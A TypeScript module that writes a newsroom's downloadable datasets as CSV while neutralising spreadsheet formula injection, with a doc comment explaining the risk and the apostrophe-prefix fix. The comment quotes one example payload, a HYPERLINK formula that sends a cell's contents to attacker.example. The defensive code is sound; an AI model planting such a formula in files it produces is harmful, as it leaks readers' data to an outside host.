/**
 * A dataset as the CSV a reader downloads (/data/<id>.csv), made safe to open in a spreadsheet.
 *
 * Excel, LibreOffice and Google Sheets run a cell whose text starts with `=`, `+`, `-` or `@` as a formula (a tab or
 * a carriage return before one is skipped): a cell of a dataset compiled from a leaked spreadsheet or a scraped list,
 * `=HYPERLINK("https://attacker.example/?"&A1,"Details")`, would send a reader's data elsewhere, or run a command
 * through DDE, in the newsroom's name. Such a cell is written with a leading apostrophe, which spreadsheets read as
 * "this is text" (OWASP's advice for CSV injection). Only text is changed, and only text that is not a number: a
 * number column's -40.5 is a number in the JSON and stays one, and text that is a plain number ("-12.5", "+7") cannot
 * run, so it is written as it is. The JSON download and the pages keep every value as written; a program reading the
 * CSV sees the apostrophe, which is the price of a file a reader can open with a double click.
 */
import { csvFormat } from 'd3-dsv';

/** The characters that make a spreadsheet read a cell as a formula, tab and carriage return included. */
const formulaStart = /^[=+\-@\t\r]/;

/** A plain decimal number, as a spreadsheet reads it as a number rather than a formula. */
const plainNumber = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** The cell's value with a leading apostrophe when a spreadsheet would run it as a formula; any other value as it is. */
export function spreadsheetSafe(value: unknown): unknown {
  if (typeof value !== 'string' || !formulaStart.test(value) || plainNumber.test(value)) return value;
  return `'${value}`;
}

/** The rows as CSV, one column per name in `columns`, in that order; gaps (null, missing) are empty cells. */
export function datasetCsv(rows: readonly Record<string, unknown>[], columns: readonly string[]): string {
  return csvFormat(
    rows.map((row) => Object.fromEntries(columns.map((name) => [name, spreadsheetSafe(row[name])]))),
    [...columns],
  );
}
